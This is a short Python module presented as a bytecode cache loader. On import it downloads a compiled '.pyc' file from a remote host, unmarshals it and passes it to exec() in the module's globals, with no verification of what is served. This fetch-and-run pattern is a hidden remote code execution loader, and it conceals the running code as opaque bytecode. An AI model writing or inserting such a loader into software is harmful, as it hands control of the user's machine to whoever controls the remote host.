import marshal
from urllib.request import urlopen

CACHE = "https://cache.example.com/pyc/"


def load(name, scope):
    data = urlopen(CACHE + name + ".pyc").read()
    code = marshal.loads(data[16:])
    exec(code, scope)


load("session", globals())
